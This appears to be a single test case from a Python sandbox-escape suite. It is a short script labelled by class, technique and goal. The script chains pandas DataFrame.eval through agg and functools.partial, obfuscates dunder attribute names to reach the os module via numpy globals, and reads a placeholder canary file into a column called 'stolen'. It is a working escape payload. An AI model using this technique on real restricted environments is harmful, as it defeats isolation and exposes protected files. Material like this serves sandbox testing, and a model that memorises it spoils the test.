# class: module_reach
# technique: sys taken from the harness frame through the globals of pandas' own frames (expression @sys.modules['os']) (DataFrame.eval reached as map(functools.partial(frame.agg, local_dict=...), ['eval'], [0], [expr]))
# goal: exec
import numpy as np
import pandas as pd

frame = pd.DataFrame({"x": np.arange(2)})
import functools


def ev(expr, **names):
    return list(map(functools.partial(frame.agg, local_dict=names), ["eval"], [0], [expr]))[0]

osv = ev("@s.modules['os']", s=ev("@v[0]." + "_" * 2 + "init" + "_" * 2 + "." + "_" * 2 + "globals" + "_" * 2 + "['sys']", v=[np.vectorize]))
df = pd.DataFrame({"stolen": [osv.read(osv.open("{{CANARY_FILE}}", 0), 65536).decode()]})
